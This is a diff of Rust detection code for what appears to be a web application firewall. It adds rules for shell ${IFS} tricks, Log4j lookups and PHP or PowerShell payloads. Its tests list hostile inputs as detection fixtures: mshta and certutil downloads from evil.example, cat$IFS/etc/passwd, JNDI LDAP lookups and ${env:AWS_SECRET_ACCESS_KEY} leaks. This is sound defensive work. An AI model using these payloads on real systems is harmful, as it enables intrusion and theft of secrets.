@@ -12,12 +12,17 @@
 //! `&&`, a backquote or `$(`, the end of the value; interpreters (`python`, `perl`, `php`) need an
 //! option. So `Tom & Jerry`, `Java; PHP; Python` or `Contact | ID` pass.
 //!
-//! Rule 100801 looks for a Log4j lookup (`${jndi:`, `${ctx:`, or a lookup nested in one within a
-//! few bytes, the way obfuscated payloads hide `jndi`) in every header value, the path and the
-//! injection targets. Rule 100802 looks for a Shellshock function definition (`() {`) at the
-//! start of a header value or an argument. Rule 100803 looks for PHP code (`<?php`, `<?=`), PHP
-//! and other stream wrappers (`php://filter`, `expect://`, `phar://`) and Java runtime calls
-//! (`java.lang.Runtime`) in the injection targets.
+//! Rule 100800 also fires on a shell started at the very start of a value with the switch that
+//! runs a command (`cmd /c`, `powershell -nop`, `/bin/sh -c`), and on the shell's field separator
+//! variable (`${IFS}`), which payloads use where spaces are filtered.
+//!
+//! Rule 100801 looks for a Log4j lookup (`${jndi:`, `${env:`, `${lower:` and the other lookup
+//! names, or a lookup nested in one within a few bytes, the way obfuscated payloads hide `jndi`)
+//! in every header value, the path and the injection targets. Rule 100802 looks for a Shellshock
+//! function definition (`() {`) at the start of a header value or an argument. Rule 100803
+//! looks for PHP code (`<?php`, `<?=`) and calls of dangerous PHP functions (`system('id')`),
+//! PHP and other stream wrappers (`php://filter`, `expect://`, `phar://`), Java runtime calls
+//! (`java.lang.Runtime`) and PowerShell download cradles in the injection targets.
 
 use std::borrow::Cow;
 
@@ -245,7 +250,8 @@ impl CommandInjection {
         let command = (seen & SEPARATOR != 0)
             .then(|| find_command(&fold_command_line(&decoded)))
             .flatten()
-            .or_else(|| invocation_at_start(&decoded));
+            .or_else(|| invocation_at_start(&decoded))
+            .or_else(|| has_ifs(&decoded).then_some(NO_COMMAND));
         if let Some(index) = command {
             hits = command_hit(index);
         }
@@ -262,7 +268,24 @@ impl CommandInjection {
     }
 }
 
-/// The hits of a command found at `index` of [`COMMANDS`].
+/// The command "index" of a command injection without a command name ([`has_ifs`]).
+const NO_COMMAND: usize = u8::MAX as usize;
+
+/// True when `value` holds the shell's field separator variable (`${IFS}`, `$IFS` not followed
+/// by a name byte), which payloads write for a space where spaces are filtered.
+fn has_ifs(value: &[u8]) -> bool {
+    memchr::memchr_iter(b'$', value).any(|at| {
+        let rest = &value[at + 1..];
+        strip_prefix_ci(rest, b"{ifs}").is_some()
+            || strip_prefix_ci(rest, b"ifs").is_some_and(|after| {
+                !after
+                    .first()
+                    .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'_')
+            })
+    })
+}
+
+/// The hits of a command found at `index` of [`COMMANDS`] ([`NO_COMMAND`]: none named).
 fn command_hit(index: usize) -> [u8; 8] {
     let mut hits = [0u8; 8];
     hits[0] = COMMAND_HIT;
@@ -676,7 +699,15 @@ fn option_argument(tail: &[u8]) -> bool {
     i > 0 && tail.get(i) == Some(&b'-') && tail.get(i + 1).is_some_and(|b| b.is_ascii_alphabetic())
 }
 
-/// True when `value` holds a Log4j lookup: `${` followed by `jndi:` or `ctx:` (any case), or by
+/// Log4j lookup names with their colon: what follows `${` in a lookup. Besides `jndi:` (the
+/// exploit), payloads use the others to hide `jndi` (`${lower:j}`) or to leak secrets through it
+/// (`${env:AWS_SECRET_ACCESS_KEY}`).
+const LOG4J_LOOKUPS: &[&str] = &[
+    "jndi:", "ctx:", "env:", "sys:", "java:", "base64:", "lower:", "upper:", "main:", "bundle:",
+    "docker:", "k8s:", "spring:", "log4j:", "web:", "marker:", "sd:", "event:",
+];
+
+/// True when `value` holds a Log4j lookup: `${` followed by a [`LOG4J_LOOKUPS`] name (any case), or by
 /// another `${` within 15 bytes without a `}` (a nested lookup hiding the name, as in
 /// `${${lower:j}ndi:…}`), like CRS 944150.
 fn has_log4j_lookup(value: &[u8]) -> bool {
@@ -687,7 +718,10 @@ fn has_log4j_lookup(value: &[u8]) -> bool {
             continue;
         }
         let after = &value[i + found + 2..];
-        if strip_prefix_ci(after, b"jndi:").is_some() || strip_prefix_ci(after, b"ctx:").is_some() {
+        if LOG4J_LOOKUPS
+            .iter()
+            .any(|name| strip_prefix_ci(after, name.as_bytes()).is_some())
+        {
             return true;
         }
         let window = &after[..after.len().min(15)];
@@ -766,6 +800,8 @@ mod tests {
             "8.8.8.8|id",
             "; kill -9 1",
             ";mshta http://evil.example/x.hta",
+            ";echo${IFS}vulnerable",
+            "x;cat$IFS/etc/passwd",
             "| certutil -urlcache -split -f http://evil.example/x.exe",
             "& rundll32 shell32.dll,Control_RunDLL",
             ";iwr http://example.com/path/file.ps1",
@@ -803,6 +839,7 @@ mod tests {
             "node; python",
             "net income; net loss",
             "template ${name} and ${count}",
+            "price: $ifsc; code $IFSC",
             "name|id|email",
             "email|id",
             "Name: John; ID 12345",
@@ -842,6 +879,8 @@ mod tests {
             b"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
             b"${JNDI:dns://x}",
             b"${ctx:loginId}",
+            b"${env:AWS_SECRET_ACCESS_KEY}",
+            b"${sys:user.name}",
         ] {
             let found = inspect_get(&d, b"/", &[(b"X-Api-Version", header)]);
             assert_eq!(rules(&found), [LOG4J_LOOKUP], "{header:?}");
@@ -853,6 +892,7 @@ mod tests {
         );
         assert_eq!(fires("${jndi:ldap://evil.example/a}"), [LOG4J_LOOKUP]);
         assert!(fires("cost: ${price} for ${qty} items").is_empty());
+        assert!(fires("${environment}: ${env}").is_empty());
     }
 
     #[test]
